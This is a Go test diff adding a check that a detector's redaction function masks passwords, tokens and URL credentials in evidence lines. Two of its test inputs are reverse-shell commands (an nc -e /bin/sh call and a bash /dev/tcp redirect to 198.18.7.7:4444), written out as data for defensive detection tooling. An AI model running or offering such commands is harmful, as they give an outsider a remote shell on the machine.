@@ -132,3 +132,17 @@ func FuzzJudge(f *testing.F) {
 		run.Run(t, detecttest.Document("config:cmd", content), content)
 	})
 }
+
+// Evidence of a line holds no word of it that may be a secret.
+func TestConceal(t *testing.T) {
+	for text, want := range map[string]string{
+		"nc -e /bin/sh 198.18.7.7 4444":                                      "nc -e /bin/sh 198.18.7.7 4444",
+		"curl -u me:hun" + "ter2x! https://me:hunter2x!@files.example.net/x": "curl -u … https://files.example.net",
+		"tool --token=korrekt-Pferd.Batterie9 -p abc -p 80 PASS=Abcdefgh12":  "tool --token=… -p … -p 80 …",
+		"bash -i >& /dev/tcp/198.18.7.7/4444 0>&1":                           "bash -i >& /dev/tcp/198.18.7.7/4444 0>&1",
+	} {
+		if got := rules.Conceal(text); got != want {
+			t.Errorf("%q: %q, want %q", text, got, want)
+		}
+	}
+}
